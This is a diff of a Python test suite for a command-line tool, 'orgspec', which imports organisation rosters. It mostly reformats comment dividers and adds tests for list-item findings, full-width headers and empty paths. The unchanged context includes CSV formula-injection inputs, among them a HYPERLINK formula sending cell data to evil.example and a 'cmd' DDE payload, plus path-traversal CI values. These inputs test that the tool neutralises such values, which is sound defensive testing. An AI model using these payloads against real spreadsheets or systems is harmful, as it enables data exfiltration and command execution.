@@ -88,7 +88,7 @@ def test_the_token_to_this_machine_never_goes_through_a_proxy(
     assert [m for m, _, _ in seen] == ["GET", "POST"]
 
 
-# --- import roster ----------------------------------------------------------------------------
+# --- import roster -------------------------------------------------------------------------------
 
 ROSTER = "Name,Department,Manager\nAda,Ops,\nGrace,Ops,Ada\nLinus,Dev,Ada\nKen,Dev,Linus\n"
 
@@ -170,7 +170,7 @@ def test_a_manager_who_is_no_one_in_the_roster_is_said(tmp_path: Path) -> None:
            "Adda (r.csv:4); no lead or parent team is taken from them" in run.stderr.splitlines()
 
 
-# --- export and back --------------------------------------------------------------------------
+# --- export and back -----------------------------------------------------------------------------
 
 NAMES = ['=HYPERLINK("http://evil.example/?"&A1,"点我")', "+1+cmd|' /C calc'!A0", "-2+3",
          "@SUM(A1)", "＝SUM(1)", "－3", "＠x", "'=already quoted", "''", "'Bob", "=", "-"]
@@ -202,7 +202,7 @@ def test_every_formula_start_gets_a_quote_in_csv() -> None:
         "'" + n for n in NAMES[:8]] + ["'''", "'Bob", "=", "-"]
 
 
-# --- site ---------------------------------------------------------------------------------------
+# --- site ----------------------------------------------------------------------------------------
 
 def test_a_title_with_control_and_bidi_characters_leaves_the_feed_well_formed(
         tmp_path: Path) -> None:
@@ -217,7 +217,7 @@ def test_a_title_with_control_and_bidi_characters_leaves_the_feed_well_formed(
         "</title><x>[U+202E]evil[U+001B][31m"
 
 
-# --- report links in CI -------------------------------------------------------------------------
+# --- report links in CI --------------------------------------------------------------------------
 
 @pytest.mark.parametrize(("url", "sha"), [
     ("https://gitlab.example.cn/a/b", "../../../other/-/raw/main"),  # leads to another file
@@ -240,7 +240,7 @@ def test_a_hostile_ci_project_url_or_commit_gives_relative_links(
     assert (sound.repo_url, sound.sha) == ("https://gitlab.example.cn/a/b", "f00")
 
 
-# --- init ---------------------------------------------------------------------------------------
+# --- init ----------------------------------------------------------------------------------------
 
 def test_an_init_that_fails_half_way_leaves_no_folder_it_made(
         tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
@@ -263,7 +263,7 @@ def test_an_init_that_fails_half_way_leaves_no_folder_it_made(
     assert list((tmp_path / "repo").iterdir()) == []
 
 
-# --- the IME colon hint ---------------------------------------------------------------------------
+# --- the IME colon hint --------------------------------------------------------------------------
 
 def test_an_ime_colon_in_a_teams_duty_is_not_told_the_teams_lead(write_org) -> None:
     org = write_org({"ops.yaml": "- kind: Team\n  id: ops\n  name: 运营部\n  responsibilities:\n"
@@ -275,3 +275,39 @@ def test_an_ime_colon_in_a_teams_duty_is_not_told_the_teams_lead(write_org) -> N
     assert found["hint"] == ("write `responsible: 董洁` if it does the work, or `accountable: "
                              "董洁` if it answers for the outcome (field names are English, "
                              "with an ASCII colon and a space)")
+
+
+# --- a list with an item cut ---------------------------------------------------------------------
+
+def test_a_finding_after_an_invalid_list_item_is_where_its_item_is_written(write_org) -> None:
+    """An empty member or a charter item that is no mapping is cut from the entity (SC003);
+    the findings on the items after it were placed one item early (on the cut one)."""
+    org = write_org({"e.yaml": "- kind: Person\n  id: p1\n  name: P\n- kind: Team\n  id: ops\n"
+                               "  name: Ops\n  lead: p1\n  members:\n    - ''\n    - zzz\n"
+                               "    - p1\n  responsibilities:\n    - [x]\n    - ref: nope\n"
+                               "      role: accountable\n"})
+    run = run_cli("check", str(org), "--format", "json", "--lang", "en")
+    assert sorted((f["code"], f["line"], f["column"]) for f in run.json()["findings"]
+                  if f["code"] in ("RF001", "SC003")) == [
+        ("RF001", 10, 7), ("RF001", 14, 7), ("SC003", 9, 7), ("SC003", 13, 7)]
+
+
+def test_a_header_in_full_width_letters_is_read(tmp_path: Path) -> None:
+    run = _import(tmp_path, "r.csv", "Ｎａｍｅ,Ｔｅａｍ,Ｅ－ｍａｉｌ\nAda,Ops,ada@example.cn\n")
+    assert run.code == 0, run.stderr
+    assert {p.id: p.email for p in load_org([str(tmp_path / "org")]).org.people.values()} == \
+        {"ada": "ada@example.cn"}
+
+
+@pytest.mark.parametrize(("args", "param", "command"), [
+    (("init", ""), "'DIRECTORY'", "init"),  # wrote the starter files into the working folder
+    (("import", "roster", "r.csv", "-o", ""), "'--output-dir'", "import"),  # crashed
+])
+def test_an_empty_path_is_one_error_line_and_writes_nowhere(
+        tmp_path: Path, args: tuple[str, ...], param: str, command: str) -> None:
+    (tmp_path / "r.csv").write_text(ROSTER, "utf-8")
+    run = run_cli(*args, cwd=tmp_path)
+    assert (run.code, run.stdout) == (2, "")
+    assert run.stderr == (f"orgspec: error: invalid value for {param}: an empty text names no "
+                          f"file or folder (see `orgspec {command} --help`)\n")
+    assert [p.name for p in tmp_path.iterdir()] == ["r.csv"]
